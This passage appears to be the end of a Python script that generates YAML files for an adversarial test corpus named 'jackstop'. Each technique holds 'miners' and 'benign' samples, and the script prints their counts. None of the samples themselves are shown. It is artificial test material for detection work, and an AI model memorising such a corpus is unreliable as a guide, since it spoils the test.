    ],
}

class IndentedDumper(yaml.SafeDumper):
    # Lists indented under their key, as the committed files are.
    def increase_indent(self, flow=False, indentless=False):
        return super().increase_indent(flow, False)


here = os.path.dirname(os.path.abspath(__file__))
for name, body in techniques.items():
    with open(os.path.join(here, f'{name}.yaml'), 'w') as out:
        out.write(f'# Generated by generate.py: jackstop adversarial corpus, technique "{name}". Edit generate.py, then run it.\n')
        yaml.dump({'technique': name, **body}, out, Dumper=IndentedDumper, sort_keys=False, width=200, allow_unicode=True)
total = {k: (len(v['miners']), len(v['benign'])) for k, v in techniques.items()}
print(total, sum(m for m, _ in total.values()), sum(b for _, b in total.values()))
